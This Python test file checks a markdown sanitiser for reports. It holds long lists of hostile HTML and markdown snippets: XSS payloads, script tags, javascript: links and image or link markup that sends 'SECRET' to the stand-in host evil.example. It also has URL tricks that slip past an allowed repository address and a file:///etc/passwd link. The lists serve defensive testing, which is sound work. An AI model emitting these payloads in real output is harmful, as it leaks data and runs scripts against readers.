"""Whatever is written, real renderers make nothing of it that was not allowed, and an honest report stays as it is."""

from collections.abc import Iterator

from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser
from support.runs import FINDING

from shared.sanitise import sanitise

REPOSITORY = "https://github.com/laeticiamng/nearvity"
CITED = "https://veille.example/etudes/7?page=2"
FINDINGS = (
    FINDING.model_copy(update={"url": REPOSITORY, "data": {}}),
    FINDING.model_copy(update={"source": "perplexity", "url": CITED, "data": {"citations": [CITED]}}),
)

# Raw HTML on, as the worst of screens would; once by the specification, once with GitHub's tables and bare links.
RENDERERS = (
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("gfm-like", {"html": True, "linkify": True}),
)
for _renderer in RENDERERS:
    if _renderer.linkify is not None:
        _renderer.linkify.set({"fuzzy_link": False, "fuzzy_email": False})

ALLOWED_ELEMENTS = {
    "html", "head", "body", "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em", "s", "code",
    "pre", "blockquote", "hr", "br", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href"}, "ol": {"start"}, "code": {"class"}, "td": {"style"}, "th": {"style"}}

HOSTILE_HTML = [
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/q?d=SECRET>",
    "<IMG SRC='https://evil.example/SECRET'>",
    "<img\nsrc=//evil.example/SECRET\n>",
    "<img/src=//evil.example/SECRET/onerror=x>",
    "<img src=x onerror=alert`1`",
    "<<img src=//evil.example/SECRET>",
    "<im<b>g src=//evil.example/SECRET>",
    "<i<i>mg src=x>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1)></svg>",
    "<svg/onload=alert(1)//",
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<ScRiPt >alert(1)</ScRiPt >",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<img src=x>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=d value=SECRET><button>ok</button></form>",
    "<a href=https://evil.example/SECRET>ici</a>",
    "<a href='javascript:alert(1)'>ici</a>",
    f"<a href={REPOSITORY} onclick=alert(1)>ici</a>",
    "<video poster=https://evil.example/SECRET></video>",
    "<audio src=https://evil.example/SECRET autoplay>",
    "<input type=image src=https://evil.example/SECRET>",
    "<table background=https://evil.example/SECRET><tr><td>x</td></tr></table>",
    "<div style='background:url(https://evil.example/SECRET)'>x</div>",
    "<p style=position:fixed>x</p>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<x onclick=alert(1)>x",
    "<!-- <img src=//evil.example/SECRET> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "</p><img src=x>",
    "</textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><img src=x></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<picture><source srcset=https://evil.example/SECRET><img></picture>",
    "<a\u200b href=https://evil.example>x</a>",
    "<im\u00adg src=x onerror=alert(1)>",
    "\ue000<img src=x>\ue001",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=//evil.example/SECRET&#x3e;",
    "&amp;lt;img src=x&amp;gt;",
    "&amp;amp;lt;img src=x&amp;amp;gt;",
    "&amp;amp;amp;amp;lt;img src=x&gt;",
    "&l<b></b>t;img src=x&gt;",
    "&lt;scr&lt;script&gt;ipt&gt;alert(1)",
]
HOSTILE_MARKDOWN = [
    "![x](https://evil.example/p.png?d=SECRET)",
    "![x](//evil.example/p.png?d=SECRET)",
    "![x](/p.png?d=SECRET)",
    "![x](<https://evil.example/a b>)",
    "![x](https://evil.example/p.png 'titre')",
    "![x](https://evil.example/(p).png)",
    "![x](\nhttps://evil.example/p.png)",
    "![x](data:image/png;base64,AAAA)",
    f"![x]({REPOSITORY}/SECRET.png)",
    "![x][1]\n\n[1]: https://evil.example/SECRET",
    "![1]\n\n[1]: https://evil.example/SECRET",
    "![1][]\n\n[1]: <https://evil.example/SECRET>",
    "![a ![b](https://evil.example/b)](https://evil.example/a)",
    "[![x](https://evil.example/i)](https://evil.example/l)",
    f"[![x](https://evil.example/i)]({REPOSITORY})",
    f"![[x]({REPOSITORY})](https://evil.example/l)",
    "!\u200b[x](https://evil.example/p)",
    "!\\[x](https://evil.example/p)",
    "\\![x](https://evil.example/p)",
    "[x](https://evil.example/SECRET)",
    "[x](//evil.example/SECRET)",
    "[x](/relatif/SECRET)",
    "[x](?d=SECRET)",
    "[x](#SECRET)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](mailto:a@evil.example?body=SECRET)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x](https://evil.example/SECRET 'titre')",
    "[x] (https://evil.example/SECRET)",
    "[x](\nhttps://evil.example/SECRET)",
    "[x\ny](https://evil.example/SECRET)",
    "[a [b] c](https://evil.example/SECRET)",
    "[x](https://evil.example/a(b)c)",
    "[x](https://evil.example/a\\)b)",
    f"[x]({REPOSITORY}?d=SECRET)",
    f"[x]({REPOSITORY}#SECRET)",
    f"[x]({REPOSITORY}-evil/SECRET)",
    f"[x]({REPOSITORY}/../../evil/SECRET)",
    f"[x]({REPOSITORY}/./../../evil/SECRET)",
    f"[x]({REPOSITORY}/%2e%2e/%2e%2e/evil/SECRET)",
    f"[x]({REPOSITORY}/%252e%252e/evil)",
    f"[x]({REPOSITORY}/&period;&period;/&period;&period;/evil/SECRET)",
    f"[x]({REPOSITORY}/&#46;&#46;/&#46;&#46;/evil)",
    f"[x]({REPOSITORY}/\\../\\../evil/SECRET)",
    f"[x]({REPOSITORY}/..\\..\\evil)",
    f"[x]({REPOSITORY}/&sol;&sol;evil.example)",
    f"[x]({REPOSITORY}&commat;evil.example/SECRET)",
    f"[x]({REPOSITORY}@evil.example/SECRET)",
    "[x](https://github.com@evil.example/laeticiamng/nearvity)",
    "[x](https://github.com:443@evil.example/laeticiamng/nearvity)",
    "[x](https://github.com.evil.example/laeticiamng/nearvity)",
    "[x](https://evil.example\\@github.com/laeticiamng/nearvity)",
    f"[x]({CITED}&d=SECRET)",
    f"[x]({CITED}/SECRET)",
    f'[x]({CITED} "SECRET")',
    f"[<img src=x onerror=alert`1`>]({REPOSITORY})",
    f"[<script>alert(1)</script>]({REPOSITORY})",
    f"[`<img src=x>`]({REPOSITORY})",
    f"[https://evil.example/SECRET]({REPOSITORY})",
    f"[x]({REPOSITORY})(https://evil.example)",
    f"[x]({REPOSITORY})[y](https://evil.example)",
    f"[[x]({REPOSITORY})](https://evil.example)",
    "https://evil.example/SECRET",
    "http://evil.example/SECRET",
    "HTTPS://EVIL.example/SECRET",
    "<https://evil.example/SECRET>",
    "<javascript:alert(1)>",
    "<a@evil.example>",
    "<mailto:a@evil.example>",
    "www.evil.example/SECRET",
    "//evil.example/SECRET",
    "ftp://evil.example/SECRET",
    "&#104;ttps://evil.example/SECRET",
    "https&colon;//evil.example/SECRET",
    "https&#58;&#47;&#47;evil.example/SECRET",
    "ht<b></b>tps://evil.example/SECRET",
    f"{REPOSITORY}.evil.example/SECRET",
    f"{REPOSITORY}'SECRET",
    f"{REPOSITORY}`SECRET",
    f"{REPOSITORY}|SECRET",
    f"{CITED}'SECRET",
    f'{CITED}"SECRET',
    f"<{REPOSITORY}?d=SECRET>",
    f"{REPOSITORY}//evil.examplehttps://evil.example/x",
    "[x]\n\n[x]: https://evil.example/SECRET",
    "[x]\n\n[x]:\nhttps://evil.example/SECRET",
    "[x]\n\n   [x]: //evil.example/SECRET",
    "[x][]\n\n[x]: <https://evil.example> 'titre'",
    "> [x]: https://evil.example/SECRET\n\n[x]",
    "- [x]: //evil.example/SECRET\n\n[x]",
    "[^1]\n\n[^1]: https://evil.example/SECRET",
    "[x]\n\n[x\\]]: https://evil.example",
    f"{REPOSITORY}/[x]({REPOSITORY})",
    "\ue0000\ue001 \ue0007\ue001",
    "[\ue0000\ue001](https://evil.example)",
    "```\n![x](https://evil.example/SECRET)\n```\n![x](https://evil.example/SECRET)",
    "`![x](https://evil.example/SECRET)`",
    "    ![x](https://evil.example/SECRET)",
    "| a |\n|---|\n| ![x](https://evil.example/SECRET) |",
]
HONEST = [
    "## Synthèse\n\nTout va bien.",
    "- **vert** : 3 < 5, `a[1]`, 12 %",
    "« < 2 s » est l'objectif ; mesuré : <2 s.",
    "a & b, R&D, M&A ; 5 > 3 ; x <- y ; a => b",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "| Plateforme | État |\n|:--|--:|\n| Nearvity | vert |",
    "🟢 Nearvity — 🔴 Med-MNG 🚑👩‍⚕️",
    f"Voir [le dépôt]({REPOSITORY}).",
    f"Voir [le ticket nº 12]({REPOSITORY}/issues/12), ouvert hier.",
    f"Source : {CITED}, puis {REPOSITORY}.",
    f"({REPOSITORY})",
    f"« {REPOSITORY} »",
    "[1] Étude ; [2] note ; [S1][S2]".replace("[S1][S2]", "[S1], [S2]"),
    "- [x] fait\n- [ ] à faire",
    "1. premier\n2. second\n   - détail",
    "> citation\n\n---\n\nsuite",
    "`code` et ``code ` double``",
    "```python\nif a < b and c > d:\n    x = y[0] // 2  # commentaire\n```",
    "MRR : 3 046,46 € (+2,64 %, soit \N{MINUS SIGN}0,05 point)",
    "Échéance : 12/11/2026, J+7, T4 2026",
    "24 h/24 et 7 j/7 ; et/ou ; km/h",
    "C:\\Users\\nom et a\\*b\\*",
    "2 * 3 = 6 ; a_b_c ; *accent* ; __fort__",
    "« Guillemets », “autres” et 'simples'",
    "100 % < 200 % & 300 % > 10 %",
    "Norme ISO 27001:2022 ; RGPD art. 32 ; WCAG 2.2 AA",
    "Version v2.8.0 → v2.9.0 (#391) !",
    "### 1. Titre : sous-titre\n\nTexte…",
    "`<div>` n'est pas montré".replace("<div>", "div"),
    "[entre crochets] puis (entre parenthèses)",
    "f(x) = [0 ; 1[ ; tableau[i]",
    "Question ? Réponse ! Fin.",
]


def _wrapped(snippet: str) -> Iterator[str]:
    yield snippet
    yield f"## Titre\n\n- point {snippet} suite"


def _faults(text: str) -> Iterator[str]:
    """Yield what real renderers make of the text that was not allowed."""
    for renderer in RENDERERS:
        tree = LexborHTMLParser(renderer.render(text))
        for node in tree.css("*"):
            if node.tag not in ALLOWED_ELEMENTS:
                yield f"<{node.tag}>"
            yield from (
                f"{node.tag}[{name}]"
                for name in node.attributes
                if name not in ALLOWED_ATTRIBUTES.get(str(node.tag), set())
            )
        for link in tree.css("a"):
            href = link.attributes.get("href") or ""
            plain = all(part not in href for part in ("..", "%", "\\", "SECRET"))
            if href != CITED and not (plain and (href == REPOSITORY or href.startswith(f"{REPOSITORY}/"))):
                yield f"a[href={href}]"


def test_the_renderers_would_show_what_is_not_sanitised() -> None:
    """Else the test below could not fail."""
    shown = [snippet for snippet in (*HOSTILE_HTML, *HOSTILE_MARKDOWN) if list(_faults(snippet))]

    assert len(shown) >= 100
    assert {HOSTILE_HTML[0], HOSTILE_MARKDOWN[0], "https://evil.example/SECRET"} <= set(shown)


def test_of_hostile_text_nothing_is_rendered_that_was_not_allowed() -> None:
    snippets = [wrapped for snippet in (*HOSTILE_HTML, *HOSTILE_MARKDOWN) for wrapped in _wrapped(snippet)]
    assert len(snippets) >= 300

    faults = {text: list(_faults(sanitise(text, FINDINGS))) for text in snippets}

    assert {text: found for text, found in faults.items() if found} == {}


def test_screens_that_show_plain_text_see_no_entity_and_no_trace_of_the_sanitiser() -> None:
    shown = [sanitise(text, FINDINGS) for snippet in (*HOSTILE_HTML, *HOSTILE_MARKDOWN) for text in _wrapped(snippet)]

    assert [text for text in shown if "&lt" in text or "&#" in text or "\ue000" in text or "\ue001" in text] == []


def test_an_honest_report_stays_byte_for_byte() -> None:
    assert len(HONEST) >= 30
    assert {report: sanitise(report, FINDINGS) for report in HONEST} == {report: report for report in HONEST}
